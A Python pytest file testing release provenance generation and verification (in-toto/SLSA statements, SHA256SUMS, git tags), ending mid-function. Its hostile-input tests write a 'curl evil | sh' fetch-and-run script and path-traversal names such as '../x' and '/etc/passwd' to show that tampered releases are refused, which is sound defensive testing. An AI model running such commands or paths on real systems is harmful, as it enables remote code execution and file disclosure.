"""The in-toto statements of a release (recipes/release/provenance.py) on a manifest shaped as ``nox -s release``
writes it."""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import random
import re
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from recipes.errors import CheckFailed, ConfigError, MissingInput, PgoError
from recipes.release import provenance, rebuild
from recipes.release.manifest import Manifest, parse
from recipes.release.reproducible import binary_tarball, parse_sha256sums, sha256_bytes, sha256sums_text
from recipes.store import sha256_file
from tests import hostile
from tests.conftest import DATA, REPO, clean_env

BASE = "hello-pgo-v1.0.0-x86_64-unknown-linux-gnu"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
FILES = {
    f"{BASE}.tar.gz": b"plain tarball",
    f"{BASE}-pgo.tar.gz": b"pgo tarball",
    f"{BASE}-pgo.profdata": b"profile",
}
MACHINE_PATHS = ("/home/someone/src/hello-repo", "/home/someone/.cargo", "/home/someone/work-dir")


def manifest(**changes: Any) -> dict[str, Any]:
    """A release manifest with the keys and value shapes recipes/release/make.py writes."""
    sha = {name: sha256_bytes(data) for name, data in FILES.items()}
    data: dict[str, Any] = {
        "schema": 1,
        "tag": "v1.0.0",
        "commit": COMMIT,
        "commit_time": 1772600767,
        "source_date_epoch": 1772600767,
        "manifest_path": "hello/Cargo.toml",
        "package": "hello-pgo",
        "bin": "hello-pgo",
        "features": ["fast"],
        "locked": True,
        "workload": "profiles/hello.toml",
        "workload_sha256": "ab" * 32,
        "target": "x86_64-unknown-linux-gnu.2.28",
        "triple": "x86_64-unknown-linux-gnu",
        "toolchain": {
            "rustc_vV": (DATA / "rustc-vV.txt").read_text(),
            "rustc": "rustc 1.95.0 (commit 59807616e1fa, LLVM 22.1.2, host x86_64-unknown-linux-gnu)",
            "cargo": "cargo 1.95.0 (f2d3ce0bd 2026-03-21)",
            "llvm_profdata": "LLVM 22.1.8 (/usr/bin/llvm-profdata-22)",
            "strip": "GNU strip (GNU Binutils for Debian) 2.40",
        },
        "cargo_command": ["cargo", "zigbuild"],
        "cargo_argv": ["cargo", "zigbuild", "--release", "--manifest-path", "hello/Cargo.toml"],
        "rustflags_var": "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUSTFLAGS",
        "rustflags": ["-Cforce-frame-pointers=yes"],
        "remap_path_prefix": [
            [MACHINE_PATHS[0], "/build/src"],
            [MACHINE_PATHS[1], "/cargo"],
            [MACHINE_PATHS[2], "/build/work"],
        ],
        "profile_store_path": f"/tmp/hello-pgo-pgo/{sha[f'{BASE}-pgo.profdata']}.profdata",
        "profile_sha256": sha[f"{BASE}-pgo.profdata"],
        "training": {"executed_functions": 120, "total_functions": 800},
        "artefacts": {
            "plain": {
                "file": f"{BASE}.tar.gz",
                "sha256": sha[f"{BASE}.tar.gz"],
                "binary": f"{BASE}/hello-pgo",
                "binary_sha256": "11" * 32,
            },
            "pgo": {
                "file": f"{BASE}-pgo.tar.gz",
                "sha256": sha[f"{BASE}-pgo.tar.gz"],
                "binary": f"{BASE}-pgo/hello-pgo",
                "binary_sha256": "22" * 32,
            },
            "profile": {"file": f"{BASE}-pgo.profdata", "sha256": sha[f"{BASE}-pgo.profdata"]},
        },
    }
    data.update(changes)
    return data


def typed(data: dict[str, Any]) -> Manifest:
    """A manifest's JSON as verify reads it (:func:`recipes.release.manifest.parse`)."""
    return parse(data, "m.json")


ZIGBUILD = {"cargo_zigbuild": "0.24.1", "zig": "0.17.1"}
LOCK = ("Cargo.lock", "cd" * 32)


def written(**kwargs: Any) -> dict[str, dict[str, Any]]:
    out = provenance.statements(typed(manifest()), FILES, **kwargs)
    return {name: json.loads(data) for name, data in out.items()}


def by_name(resources: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {r["name"]: r for r in resources}


def test_one_statement_per_artefact_named_after_it() -> None:
    assert set(written()) == {f"{name}.intoto.json" for name in FILES}


def test_statement_v1_with_slsa_provenance_v1() -> None:
    for data in written().values():
        assert data["_type"] == "https://in-toto.io/Statement/v1"
        assert data["predicateType"] == "https://slsa.dev/provenance/v1"
        assert set(data) == {"_type", "subject", "predicateType", "predicate"}
        assert data["predicate"]["buildDefinition"]["buildType"] == provenance.BUILD_TYPE
        assert data["predicate"]["runDetails"]["builder"]["id"] == provenance.BUILDER_ID


def test_subjects_are_the_artefact_and_the_binary_in_it_by_sha256() -> None:
    statements = written()
    pgo = statements[f"{BASE}-pgo.tar.gz.intoto.json"]["subject"]
    assert pgo == [
        {"name": f"{BASE}-pgo.tar.gz", "digest": {"sha256": sha256_bytes(FILES[f"{BASE}-pgo.tar.gz"])}},
        {"name": f"{BASE}-pgo/hello-pgo", "digest": {"sha256": "22" * 32}},
    ]
    profile = statements[f"{BASE}-pgo.profdata.intoto.json"]["subject"]
    assert profile == [{"name": f"{BASE}-pgo.profdata", "digest": {"sha256": sha256_bytes(b"profile")}}]


def test_parameters_come_from_the_manifest() -> None:
    definition = written()[f"{BASE}.tar.gz.intoto.json"]["predicate"]["buildDefinition"]
    external = definition["externalParameters"]
    assert (external["tag"], external["target"]) == ("v1.0.0", "x86_64-unknown-linux-gnu.2.28")
    assert (external["cargo_command"], external["features"]) == (["cargo", "zigbuild"], ["fast"])
    assert external["manifest_path"] == "hello/Cargo.toml"
    internal = definition["internalParameters"]
    assert internal["rustflags"] == ["-Cforce-frame-pointers=yes"]
    assert internal["rustflags_var"] == "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUSTFLAGS"
    assert internal["remap_path_prefix_to"] == ["/build/src", "/build/work", "/cargo"]
    assert internal["source_date_epoch"] == 1772600767


def test_resolved_dependencies_pin_source_toolchain_and_lock() -> None:
    deps = by_name(
        written(cargo_lock=LOCK, zigbuild=ZIGBUILD)[f"{BASE}-pgo.tar.gz.intoto.json"]["predicate"]["buildDefinition"][
            "resolvedDependencies"
        ]
    )
    assert deps["source"]["digest"] == {"gitCommit": COMMIT}
    assert deps["rustc"]["digest"] == {"gitCommit": "59807616e1fa2540724bfbac14d7976d7e4a3860"}  # rustc -vV's
    assert deps["rustc"]["uri"] == "pkg:generic/rustc@1.95.0"
    assert deps["rustc"]["annotations"]["llvm_version"] == "22.1.2"
    assert deps["llvm-profdata"]["uri"] == "pkg:generic/llvm-profdata@22.1.8"
    assert deps["cargo"]["uri"] == "pkg:generic/cargo@1.95.0"
    assert deps["zig"]["uri"] == "pkg:generic/zig@0.17.1"
    assert deps["cargo-zigbuild"]["uri"] == "pkg:generic/cargo-zigbuild@0.24.1"
    assert deps["Cargo.lock"]["digest"] == {"sha256": "cd" * 32}
    assert deps["profiles/hello.toml"]["digest"] == {"sha256": "ab" * 32}
    for dep in deps.values():  # a SLSA ResourceDescriptor names a uri or a digest
        assert "uri" in dep or "digest" in dep


def test_zig_and_lock_absent_when_not_used() -> None:
    deps = by_name(written()[f"{BASE}.tar.gz.intoto.json"]["predicate"]["buildDefinition"]["resolvedDependencies"])
    assert not {"zig", "cargo-zigbuild", "Cargo.lock"} & set(deps)


def test_byproducts_are_the_profile() -> None:
    (profile,) = written()[f"{BASE}.tar.gz.intoto.json"]["predicate"]["runDetails"]["byproducts"]
    assert profile["name"] == f"{BASE}-pgo.profdata"
    assert profile["digest"] == {"sha256": sha256_bytes(b"profile")}
    assert profile["annotations"]["executed_functions"] == 120


def test_every_statement_shares_one_predicate_and_no_machine_path() -> None:
    statements = provenance.statements(typed(manifest()), FILES, cargo_lock=LOCK, zigbuild=ZIGBUILD)
    predicates = {json.dumps(json.loads(data)["predicate"], sort_keys=True) for data in statements.values()}
    assert len(predicates) == 1
    text = b"".join(statements.values()).decode()
    assert not [path for path in MACHINE_PATHS if path in text]
    assert statements == provenance.statements(typed(manifest()), FILES, cargo_lock=LOCK, zigbuild=ZIGBUILD)


@pytest.mark.refuses("artefact-not-manifest-statements")
def test_an_artefact_that_is_not_the_manifest_s_refused() -> None:
    files = {**FILES, f"{BASE}-pgo.tar.gz": b"something else"}
    with pytest.raises(CheckFailed) as caught:
        provenance.statements(typed(manifest()), files)
    assert isinstance(caught.value, PgoError) and "\n" not in caught.value.line()
    assert f"{BASE}-pgo.tar.gz has sha256" in caught.value.line()


def test_cargo_lock_is_the_workspace_s_inside_the_repository(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / "crates" / "hello").mkdir(parents=True)
    (tmp_path / "Cargo.lock").write_text("above the repository")
    assert provenance.find_cargo_lock(repo, "crates/hello/Cargo.toml") is None
    (repo / "Cargo.lock").write_text("workspace")
    assert provenance.find_cargo_lock(repo, "crates/hello/Cargo.toml") == ("Cargo.lock", sha256_bytes(b"workspace"))
    (repo / "crates" / "hello" / "Cargo.lock").write_text("own")
    assert provenance.find_cargo_lock(repo, "crates/hello/Cargo.toml") == (
        "crates/hello/Cargo.lock",
        sha256_bytes(b"own"),
    )


# --- verify: a release's files on disk, its tag in a real git repository --------------------------------


def _git(repo: Path, *args: str) -> str:
    env = clean_env({"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org"})
    env.update({"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"})
    done = subprocess.run(["git", "-C", str(repo), *args], env=env, capture_output=True, text=True, check=True)
    return done.stdout.strip()


@dataclass(frozen=True)
class Published:
    repo: Path
    dist: Path
    manifest: dict[str, Any]

    def sums(self) -> dict[str, str]:
        return parse_sha256sums((self.dist / "SHA256SUMS").read_text())

    def resum(self) -> None:
        """SHA256SUMS made again from the files as they are (a consistent tampering)."""
        sums = {p.name: sha256_file(p) for p in self.dist.iterdir() if p.name != "SHA256SUMS"}
        (self.dist / "SHA256SUMS").write_text(sha256sums_text(sums))

    def statement(self, artefact: str) -> Path:
        return self.dist / f"{artefact}.intoto.json"

    def verify(self) -> list[str]:
        return provenance.verify("v1.0.0", self.dist, self.repo, clean_env())


def publish(root: Path, *, zigbuild: dict[str, str] | None = ZIGBUILD) -> Published:
    """A release as `nox -s release` writes it, of a tagged commit of a repository with a Cargo.lock."""
    repo = root / "repo"
    (repo / "hello").mkdir(parents=True)
    (repo / "hello" / "Cargo.toml").write_text('[package]\nname = "hello-pgo"\n')
    (repo / "hello" / "Cargo.lock").write_text("version = 4\n")
    _git(root, "init", "-q", "-b", "main", str(repo))
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "hello")
    _git(repo, "tag", "-a", "v1.0.0", "-m", "v1.0.0")
    plain, pgo = b"\x7fELF plain binary", b"\x7fELF pgo binary"
    files = {
        f"{BASE}.tar.gz": binary_tarball("hello-pgo", plain, BASE, 1772600767),
        f"{BASE}-pgo.tar.gz": binary_tarball("hello-pgo", pgo, f"{BASE}-pgo", 1772600767),
        f"{BASE}-pgo.profdata": b"profile",
    }
    data = manifest(commit=_git(repo, "rev-parse", "HEAD"))
    for kind, name, binary in (("plain", f"{BASE}.tar.gz", plain), ("pgo", f"{BASE}-pgo.tar.gz", pgo)):
        data["artefacts"][kind].update(sha256=sha256_bytes(files[name]), binary_sha256=sha256_bytes(binary))
    files[f"{BASE}-manifest.json"] = provenance.encode(data)
    files.update(provenance.release_statements(typed(data), files, repo, zigbuild))
    dist = repo / "dist" / "v1.0.0"
    dist.mkdir(parents=True)
    for name, content in files.items():
        (dist / name).write_bytes(content)
    published = Published(repo, dist, data)
    published.resum()
    return published


def load_published(directory: Path, tag: str) -> rebuild.Published:
    """:func:`recipes.release.rebuild.load_release` of a folder that holds one target's release."""
    published = rebuild.load_release(directory, tag)
    if len(published) != 1:
        raise ValueError(f"{directory} holds {len(published)} targets' releases: use load_release")
    return published[0]


def refused(published: Published, *words: str) -> str:
    with pytest.raises(PgoError) as caught:
        published.verify()
    line = caught.value.line()
    assert "\n" not in line and all(w in line for w in words), line
    return line


def test_verify_a_release_as_written(tmp_path: Path) -> None:
    lines = publish(tmp_path).verify()
    assert lines[0] == "ok  SHA256SUMS: 7 files, every one there and as listed"
    assert f"ok  {BASE}-pgo.tar.gz: {BASE}-pgo.tar.gz.intoto.json names it and the manifest's parameters" in lines
    assert "ok  hello/Cargo.lock is the tag's" in lines
    assert lines[-1] == "verified v1.0.0: 7 files, 3 provenance statements"


def test_features_forged_in_every_json_pass_verify_which_says_it_cannot_tell(tmp_path: Path) -> None:
    """The manifest's features changed, and every statement written again from it, SHA256SUMS too: nothing verify
    reads disagrees, so it passes, and says which facts only a rebuild checks (rebuild compares the binaries)."""
    published = publish(tmp_path)
    forged = {**published.manifest, "features": ["forged"]}
    files = {name: (published.dist / name).read_bytes() for name in FILES}
    (published.dist / f"{BASE}-manifest.json").write_bytes(provenance.encode(forged))
    files[f"{BASE}-manifest.json"] = provenance.encode(forged)
    for name, data in provenance.release_statements(typed(forged), files, published.repo, ZIGBUILD).items():
        (published.dist / name).write_bytes(data)
    published.resum()
    stated = json.loads(published.statement(f"{BASE}-pgo.tar.gz").read_text())
    assert stated["predicate"]["buildDefinition"]["externalParameters"]["features"] == ["forged"]
    lines = published.verify()
    assert lines[-2:] == [
        "note: verify checks the files against each other and the tag; it cannot tell whether the binaries were built "
        "as the manifests and statements say (features, rustflags, toolchain, cargo's command, profile, workload): "
        "nox -s rebuild (or verify --rebuild) builds them again and compares",
        "verified v1.0.0: 7 files, 3 provenance statements",
    ]


@pytest.mark.refuses("verify-file-sha256-not-sha256sums", "verify-artefact-sha256-not-manifest")
def test_verify_a_changed_byte_in_an_artefact_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    tarball = published.dist / f"{BASE}-pgo.tar.gz"
    data = bytearray(tarball.read_bytes())
    data[-1] ^= 1
    tarball.write_bytes(bytes(data))
    refused(published, f"{BASE}-pgo.tar.gz has sha256", "SHA256SUMS says")
    published.resum()  # and with SHA256SUMS made to match: the manifest and the statement still say otherwise
    refused(published, f"{BASE}-pgo.tar.gz has sha256", "the manifest records")


@pytest.mark.refuses("verify-statement-parameter-not-manifest")
def test_verify_a_changed_parameter_in_a_statement_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    path = published.statement(f"{BASE}.tar.gz")
    data = json.loads(path.read_text())
    data["predicate"]["buildDefinition"]["externalParameters"]["target"] = "x86_64-unknown-linux-gnu"
    path.write_text(json.dumps(data))
    published.resum()
    refused(
        published,
        f"{BASE}.tar.gz.intoto.json: predicate.buildDefinition.externalParameters.target is",
        '"x86_64-unknown-linux-gnu", the manifest says "x86_64-unknown-linux-gnu.2.28"',
    )


@pytest.mark.refuses("verify-statement-subject-not-artefact")
def test_verify_a_statement_about_another_file_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    path = published.statement(f"{BASE}-pgo.profdata")
    data = json.loads(path.read_text())
    data["subject"][0]["digest"]["sha256"] = "00" * 32
    path.write_text(json.dumps(data))
    published.resum()
    refused(published, f"{BASE}-pgo.profdata.intoto.json: subject[0].digest.sha256 is", "00000000")


@pytest.mark.refuses("verify-file-listed-sha256sums-missing", "verify-provenance-statement-missing")
def test_verify_a_missing_statement_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    published.statement(f"{BASE}-pgo.tar.gz").unlink()
    refused(published, f"{BASE}-pgo.tar.gz.intoto.json is in SHA256SUMS but not in")
    published.resum()
    refused(published, f"the provenance statement {BASE}-pgo.tar.gz.intoto.json is missing")


@pytest.mark.refuses("verify-file-not-listed-sha256sums")
def test_verify_a_file_not_in_sha256sums_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    (published.dist / "extra.bin").write_bytes(b"x")
    refused(published, "extra.bin is in", "but not in SHA256SUMS")


@pytest.mark.refuses("verify-file-not-listed-sha256sums")
def test_verify_leaves_the_image_layout_to_its_check_and_refuses_what_only_looks_like_it(tmp_path: Path) -> None:
    """The one folder ``nox -s image`` writes (``<bin>-<tag>-image/`` with its ``oci-layout`` file) is left to
    recipes/release/image.py's check_layout (tests/integration/test_image.py), not refused as unlisted; a folder of
    that name
    without the file, a link of that name, or another tag's name is refused."""
    published = publish(tmp_path)
    layout = published.dist / "hello-pgo-v1.0.0-image"
    layout.mkdir()
    refused(published, "hello-pgo-v1.0.0-image is in", "but not in SHA256SUMS")
    (layout / "oci-layout").write_text('{"imageLayoutVersion":"1.0.0"}')
    assert published.verify()[-1] == "verified v1.0.0: 7 files, 3 provenance statements"  # image.check_layout's
    layout.rename(tmp_path / "elsewhere")
    layout.symlink_to(tmp_path / "elsewhere")
    refused(published, "hello-pgo-v1.0.0-image is in", "but not in SHA256SUMS")
    layout.unlink()
    (tmp_path / "elsewhere").rename(published.dist / "hello-pgo-v1.0.1-image")
    refused(published, "hello-pgo-v1.0.1-image is in", "but not in SHA256SUMS")


#: a run of nox -s image as far as its writes go, stopped where SIGKILL found it: SHA256SUMS' temporary file written,
#: then the layout's staging folder half written (its first file), where it waits
_HALF_WRITTEN = """
import sys, time
from pathlib import Path
from recipes.files import atomic_output
from recipes.release import make
written = make.write_atomically
def then_wait(path, data):
    written(path, data)
    print("half written", flush=True)
    time.sleep(120)
make.write_atomically = then_wait
dist = Path(sys.argv[1])
with atomic_output(dist / "SHA256SUMS") as tmp:
    tmp.write_text("partial")
    make.write_dir(dist / "hello-pgo-v1.0.0-image", {"oci-layout": b"{}", "index.json": b"{}"})
"""


@pytest.mark.refuses("verify-temporary-file-of-a-run")
def test_a_killed_run_s_temporary_files_are_named_as_such_with_how_to_remove_them(tmp_path: Path) -> None:
    published = publish(tmp_path)
    child = subprocess.Popen(
        [sys.executable, "-c", _HALF_WRITTEN, str(published.dist)], stdout=subprocess.PIPE, text=True, cwd=REPO
    )
    try:
        assert child.stdout is not None and child.stdout.readline() == "half written\n"
        sums = f".SHA256SUMS.{child.pid}.tmp"
        assert refused(published) == (
            f"{sums} in {published.dist} is the temporary file of SHA256SUMS, which process {child.pid} is writing "
            "now (wait for that run (release or image) to end, then verify again)"
        )
    finally:
        child.kill()
        child.wait()
        child.stdout.close()  # type: ignore[union-attr]
    staging = published.dist / f".hello-pgo-v1.0.0-image.{child.pid}.tmp"
    assert (published.dist / sums).is_file() and (staging / "index.json").is_file()  # what SIGKILL left
    assert refused(published) == (
        f"{sums} in {published.dist} is a killed run's temporary file of SHA256SUMS (its process {child.pid} is "
        f"gone), not a file of the release (remove it: rm -r {published.dist / sums})"
    )
    (published.dist / sums).unlink()
    assert refused(published).startswith(
        f"{staging.name} in {published.dist} is a killed run's temporary file of hello-pgo-v1.0.0-image (its process "
    )
    shutil.rmtree(staging)
    assert published.verify()[-1] == "verified v1.0.0: 7 files, 3 provenance statements"


@pytest.mark.refuses("verify-cargo-zigbuild-release-statement-records-no")
def test_verify_zig_versions_dropped_from_a_zigbuild_release_refused(tmp_path: Path) -> None:
    published = publish(tmp_path, zigbuild=None)
    refused(published, "records no zig and cargo-zigbuild", "built with cargo zigbuild")


@pytest.mark.refuses("verify-tag-moved")
def test_verify_a_moved_tag_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    _git(published.repo, "commit", "-q", "--allow-empty", "-m", "later")
    _git(published.repo, "tag", "-f", "-a", "v1.0.0", "-m", "moved")
    refused(published, "tag v1.0.0 is commit", "the release was built from", "the tag was moved")


@pytest.mark.refuses("verify-tag-cargo-lock-not-statements")
def test_verify_another_cargo_lock_than_the_tag_s_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    for name in FILES:
        path = published.statement(name)
        data = json.loads(path.read_text())
        for dep in data["predicate"]["buildDefinition"]["resolvedDependencies"]:
            if dep["name"] == "hello/Cargo.lock":
                dep["digest"]["sha256"] = "ee" * 32
        path.write_text(json.dumps(data))
    published.resum()
    refused(published, "hello/Cargo.lock of v1.0.0 has sha256", "the statements record eeee")


@pytest.mark.refuses("manifest-another-schema")
def test_a_manifest_of_another_schema_refused_by_verify_and_rebuild(tmp_path: Path) -> None:
    published = publish(tmp_path)
    assert load_published(published.dist, "v1.0.0").manifest.schema == 1
    path = published.dist / f"{BASE}-manifest.json"
    data = json.loads(path.read_text())
    data["schema"] = 2
    path.write_bytes(provenance.encode(data))
    published.resum()
    refused(published, f"{BASE}-manifest.json has schema 2; this pgo-recipes reads manifests of schema 1")
    with pytest.raises(CheckFailed, match="has schema 2; this pgo-recipes reads manifests of schema 1"):
        load_published(published.dist, "v1.0.0")


@pytest.mark.refuses("verify-no-artefacts-tag", "verify-sha256sums-missing")
def test_verify_a_directory_without_the_release_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    with pytest.raises(PgoError, match=rf"no artefacts of v1.0.0 at {tmp_path / 'elsewhere'} \(download"):
        provenance.verify("v1.0.0", tmp_path / "elsewhere", published.repo, clean_env())
    (published.dist / "SHA256SUMS").unlink()
    refused(published, f"SHA256SUMS is missing from {published.dist}", "download every file of the release")


@pytest.mark.refuses("verify-two-manifests-one-target", "verify-no-manifest-tag-manifest-another-tag")
def test_verify_two_manifests_or_one_of_another_tag_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    path = published.dist / f"{BASE}-manifest.json"
    other = published.dist / f"{BASE.replace('x86_64', 'aarch64')}-manifest.json"
    other.write_bytes(path.read_bytes())
    published.resum()
    refused(published, "2 manifests of v1.0.0 in SHA256SUMS", "keep one release of one target per directory")
    other.unlink()
    data = json.loads(path.read_text())
    data["tag"] = "v0.9.0"
    path.write_bytes(provenance.encode(data))
    published.resum()
    refused(published, f"{BASE}-manifest.json is not the manifest of v1.0.0")


@pytest.mark.refuses("verify-sha256sums-has-no-line-for-artefact")
def test_verify_an_artefact_without_its_line_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    (published.dist / f"{BASE}.tar.gz").unlink()
    published.resum()
    refused(published, f"SHA256SUMS has no line for {BASE}.tar.gz")


@pytest.mark.refuses("verify-binary-tarball-not-manifest")
def test_verify_another_binary_in_a_tarball_refused(tmp_path: Path) -> None:
    """Another binary packed as the release packs it, and the manifest's tarball sha256 made to match: the binary's
    own sha256 still says it is not the one that was built."""
    published = publish(tmp_path)
    name = f"{BASE}-pgo.tar.gz"
    another = b"\x7fELF another binary"
    tarball = binary_tarball("hello-pgo", another, f"{BASE}-pgo", 1772600767)
    (published.dist / name).write_bytes(tarball)
    path = published.dist / f"{BASE}-manifest.json"
    data = json.loads(path.read_text())
    data["artefacts"]["pgo"]["sha256"] = sha256_bytes(tarball)
    path.write_bytes(provenance.encode(data))
    published.resum()
    refused(published, f"hello-pgo in {name} has sha256 {sha256_bytes(another)}", "the manifest")


@pytest.mark.refuses("verify-statement-not-json", "verify-statement-not-toto-statement-has-another")
@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"{not json", "is not valid JSON"),
        (b"[]", "is not an in-toto statement"),
        (b'{"_type": "https://in-toto.io/Statement/v0.1"}', "_type is 'https://in-toto.io/Statement/v0.1', not"),
    ],
)
def test_verify_a_statement_that_is_not_one_refused(tmp_path: Path, content: bytes, words: str) -> None:
    published = publish(tmp_path)
    published.statement(f"{BASE}-pgo.profdata").write_bytes(content)
    published.resum()
    refused(published, f"{BASE}-pgo.profdata.intoto.json", words, "download it again")


@pytest.mark.refuses("verify-statement-not-toto-statement-has-another")
def test_verify_a_statement_without_its_predicate_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    path = published.statement(f"{BASE}-pgo.profdata")
    data = json.loads(path.read_text())
    del data["predicate"]
    path.write_text(json.dumps(data))
    published.resum()
    refused(published, f"{BASE}-pgo.profdata.intoto.json has no predicate")


@pytest.mark.refuses("rebuild-no-manifest", "rebuild-two-manifests-one-target")
def test_rebuild_without_one_manifest_of_the_tag_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    path = published.dist / f"{BASE}-manifest.json"
    other = published.dist / f"{BASE.replace('x86_64', 'aarch64')}-manifest.json"
    other.write_bytes(path.read_bytes())
    with pytest.raises(ConfigError, match=rf"2 manifests of v1.0.0 in {published.dist} \(keep one target's files"):
        load_published(published.dist, "v1.0.0")
    other.unlink()
    path.unlink()
    with pytest.raises(MissingInput, match=rf"no \*-v1.0.0-\*-manifest.json in {published.dist}"):
        load_published(published.dist, "v1.0.0")


@pytest.mark.refuses("rebuild-manifest-not-json-not-object-another")
@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"{not json", r"is not valid JSON"),
        (b"[]", r"is not a manifest \(not a JSON object\)"),
        (None, r"is the manifest of v0.9.0, not v1.0.0"),
    ],
)
def test_rebuild_of_a_manifest_that_is_not_the_tags_refused(tmp_path: Path, content: bytes | None, words: str) -> None:
    published = publish(tmp_path)
    path = published.dist / f"{BASE}-manifest.json"
    path.write_bytes(content if content is not None else provenance.encode({**published.manifest, "tag": "v0.9.0"}))
    published.resum()
    with pytest.raises(CheckFailed, match=rf"{BASE}-manifest.json {words}"):
        load_published(published.dist, "v1.0.0")


@pytest.mark.refuses("rebuild-another-file-sha256-not-sha256sums")
def test_rebuild_of_a_file_that_is_not_sha256sums_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    tarball = published.dist / f"{BASE}-pgo.tar.gz"
    tarball.write_bytes(tarball.read_bytes() + b"\0")
    with pytest.raises(CheckFailed, match=rf"{BASE}-pgo.tar.gz has sha256 {sha256_file(tarball)}, SHA256SUMS says"):
        load_published(published.dist, "v1.0.0")


# --- hostile inputs: SHA256SUMS lists exactly the release's files, the manifest's keys typed, tarballs checked ------


def _add_line(published: Published, name: str, content: bytes) -> None:
    """A SHA256SUMS line for ``name`` (the sha256 of ``content``), after the release's own lines."""
    sums = published.dist / "SHA256SUMS"
    sums.write_text(sums.read_text() + f"{sha256_bytes(content)}  {name}\n")


@pytest.mark.refuses("verify-rebuild-sha256sums-line-names-path-absolute")
@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("../x", "SHA256SUMS line 8 names '../x', a path with '..': a release lists only the files of its folder"),
        ("/etc/passwd", "SHA256SUMS line 8 names '/etc/passwd', an absolute path"),
        ("sub/x", "SHA256SUMS line 8 names 'sub/x', a path into a folder, not a file name"),
        (".hidden", "SHA256SUMS line 8 names '.hidden', a hidden file"),
        ("..", "SHA256SUMS line 8 names '..', a path with '..'"),
    ],
)
def test_verify_a_sha256sums_line_that_is_not_a_file_of_the_folder_refused(
    tmp_path: Path, name: str, words: str
) -> None:
    """The file is there and its sha256 is the line's: it is refused for its name, before anything is hashed."""
    published = publish(tmp_path)
    target = Path(name) if name.startswith("/") else published.dist / name
    if not target.exists():
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(b"outside")
    content = target.read_bytes() if target.is_file() else b""
    _add_line(published, name, content)
    line = refused(published, words, "download SHA256SUMS again from the release")
    assert line.startswith("SHA256SUMS line 8"), line
    with pytest.raises(CheckFailed, match=re.escape(words)):
        load_published(published.dist, "v1.0.0")


@pytest.mark.refuses("verify-rebuild-sha256sums-lists-file-release-does")
def test_verify_an_extra_file_with_its_line_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    (published.dist / "extra.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    published.resum()
    words = "SHA256SUMS lists extra.sh, a file the release v1.0.0 does not make (it makes 7:"
    refused(published, words, "remove the line and the file, or download the release again")
    with pytest.raises(CheckFailed, match=re.escape(words)):
        load_published(published.dist, "v1.0.0")


@pytest.mark.refuses(
    "verify-rebuild-sha256sums-lists-file-release-does", "verify-rebuild-release-file-sha256sums-symbolic-link"
)
def test_verify_a_symlink_to_a_file_outside_refused(tmp_path: Path) -> None:
    """As an extra line, and in place of one of the release's own files (its content the same)."""
    published = publish(tmp_path)
    outside = tmp_path / "outside.txt"
    outside.write_text("secret\n")
    (published.dist / "outside.txt").symlink_to(outside)
    published.resum()
    refused(published, "SHA256SUMS lists outside.txt, a file the release v1.0.0 does not make")
    (published.dist / "outside.txt").unlink()
    published.resum()
    profile = published.dist / f"{BASE}-pgo.profdata"
    moved = tmp_path / "profile-elsewhere"
    profile.rename(moved)
    profile.symlink_to(moved)
    words = f"{BASE}-pgo.profdata in {published.dist} is a symbolic link (to {moved}), not a file of the release"
    refused(published, words, "put the release's own files in the folder, not links")
    with pytest.raises(CheckFailed, match=re.escape(words)):
        load_published(published.dist, "v1.0.0")


@pytest.mark.refuses("verify-rebuild-release-file-sha256sums-symbolic-link")
def test_verify_a_listed_name_that_is_a_directory_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    statement = published.statement(f"{BASE}-pgo.profdata")
    statement.unlink()
    statement.mkdir()
    refused(published, f"{statement.name} in {published.dist} is not a regular file")


@pytest.mark.refuses("verify-rebuild-release-file-sha256sums-symbolic-link")
def test_verify_a_sha256sums_that_is_a_symlink_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    sums = published.dist / "SHA256SUMS"
    elsewhere = tmp_path / "SHA256SUMS"
    sums.rename(elsewhere)
    sums.symlink_to(elsewhere)
    refused(published, f"SHA256SUMS in {published.dist} is a symbolic link (to {elsewhere})")


@pytest.mark.refuses("verify-rebuild-sha256sums-line-lists-file-second")
def test_verify_a_line_listed_twice_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    sums = published.dist / "SHA256SUMS"
    first = sums.read_text().splitlines(keepends=True)[0]
    sums.write_text(sums.read_text() + first)
    refused(published, f"SHA256SUMS line 8 lists {first.split()[1]} a second time")


@pytest.mark.refuses("verify-rebuild-sha256sums-not-utf-8")
def test_verify_a_sha256sums_that_is_not_utf8_refused(tmp_path: Path) -> None:
    published = publish(tmp_path)
    sums = published.dist / "SHA256SUMS"
    sums.write_bytes(sums.read_bytes() + b"\xff\xfe  caf\xe9.bin\n")
    words = f"the checksum file {sums} is not UTF-8 text (byte 0xff on line 8"
    refused(published, words, "download SHA256SUMS again")
    with pytest.raises(CheckFailed, match=re.escape(words)):
        load_published(published.dist, "v1.0.0")


def _edit_manifest(published: Published, edit: Callable[[dict[str, Any]], object]) -> None:
